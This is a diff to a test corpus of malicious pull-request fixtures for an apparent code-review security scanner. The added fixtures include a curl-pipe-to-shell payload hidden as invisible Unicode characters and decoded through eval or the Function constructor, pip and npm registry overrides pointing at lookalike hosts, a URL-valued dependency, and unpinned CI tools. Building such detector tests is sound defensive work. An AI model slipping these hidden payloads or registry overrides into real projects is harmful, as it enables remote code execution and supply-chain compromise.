@@ -91,6 +91,8 @@ function extensionManifest(activationEvents: string[]): string {
 
 /** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
 const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+/** The same payload as private-use characters (U+E000 + byte). */
+const PRIVATE_USE_HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(0xe000 + b)).join('');
 
 const GUARD_BASE = lines(
   "import type { User } from '../users';",
@@ -436,6 +438,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
               lines(
                 'const s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);',
                 `eval(Buffer.from(s(\`${HIDDEN}\`)).toString('utf-8'));`,
+              ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character'], drivers: ['finding:invisible-character'] },
+  },
+  {
+    id: 'attack-extension-private-use-payload',
+    description:
+      'The same trick with private-use characters (U+E000 upward: no font a diff uses draws them; os-info-checker-es6 write-ups, 2025): a "typing fix" adds a blank-looking string of them, one byte each, that a helper maps back to text and runs through the Function constructor.',
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7157,
+        title: 'fix: typings for the activation event',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/extension.js',
+            base: EXTENSION_BASE,
+            head:
+              EXTENSION_BASE +
+              lines(
+                'const t = (v) => String.fromCharCode(...[...v].map((c) => c.codePointAt(0) - 0xe000));',
+                `new Function(t('${PRIVATE_USE_HIDDEN}'))();`,
               ),
           },
         ],
@@ -2863,6 +2890,98 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-workflow-pip-extra-index',
+    description:
+      'Dependency confusion moved out of the requirements file: a newcomer\'s "faster CI" PR gives pip an extra index on the command line of a workflow step and a Dockerfile ENV, where a requirements-file reader never looks (pip then takes each package from whichever of PyPI and that host offers the higher version).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7635,
+        title: 'ci: use the wheel cache for faster installs',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt', '      - run: pytest'),
+            head: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install --extra-index-url https://wheels.tint-cache.dev/simple -r requirements.txt', '      - run: pytest'),
+          },
+          { path: 'Dockerfile', base: lines('FROM python:3.12-slim', 'COPY . /app', 'RUN pip install /app'), head: lines('FROM python:3.12-slim', 'ENV PIP_EXTRA_INDEX_URL=https://wheels.tint-cache.dev/simple', 'COPY . /app', 'RUN pip install /app') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-ci-npm-registry-on-command-line',
+    description:
+      "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7637,
+        title: 'ci: use the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm test'),
+            head: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci --registry https://registry.npmjs-cache.org/', '      - run: npm test'),
+          },
+          { path: 'Dockerfile', base: lines('FROM node:22-slim', 'COPY . /app', 'RUN cd /app && npm ci'), head: lines('FROM node:22-slim', 'ENV NPM_CONFIG_REGISTRY=https://registry.npmjs-cache.org/', 'COPY . /app', 'RUN cd /app && npm ci') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
+  },
+  {
+    id: 'attack-npm-remote-dynamic-dependency-https',
+    description:
+      'PhantomRaven (Koi Security, October 2025), over https: a newcomer\'s "lint fix" adds a dependency whose version is a URL on an unknown host naming no package file, an endpoint that decides what to serve on each install (and can serve the registry\'s scanners something else).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7638,
+        title: 'chore: add the unused-imports lint rule',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tint', version: '2.1.0', devDependencies: { eslint: '^9.14.0' } }),
+            head: packageJson({ name: 'tint', version: '2.1.0', devDependencies: { eslint: '^9.14.0', 'eslint-plugin-unused-imports-x': 'https://packages.storeartifact-cdn.com/npm/unused-imports' } }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
+  },
+  {
+    id: 'attack-ci-tools-from-moving-sources',
+    description:
+      "A newcomer's lint step runs a formatter with `npx -p someone/tool` (npm reads a bare owner/repo as the GitHub repository's default branch), takes the requirements list from a URL on a branch, and `go get`s a generator without a version: three tools whose code is whatever was last pushed.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7636,
+        title: 'ci: add lint tools',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/lint.yml',
+            head: lines(
+              'name: lint',
+              'on: [push, pull_request]',
+              'jobs:',
+              '  lint:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - run: npx -p tint-tools/fmt fmt --check .',
+              '      - run: pip install -r https://raw.githubusercontent.com/tint-tools/lint-deps/main/requirements.txt',
+              '      - run: go get github.com/tint-tools/gen && go generate ./...',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['gha-unpinned-tool'] },
   },
   {
     id: 'attack-mvn-jvm-config-agent',
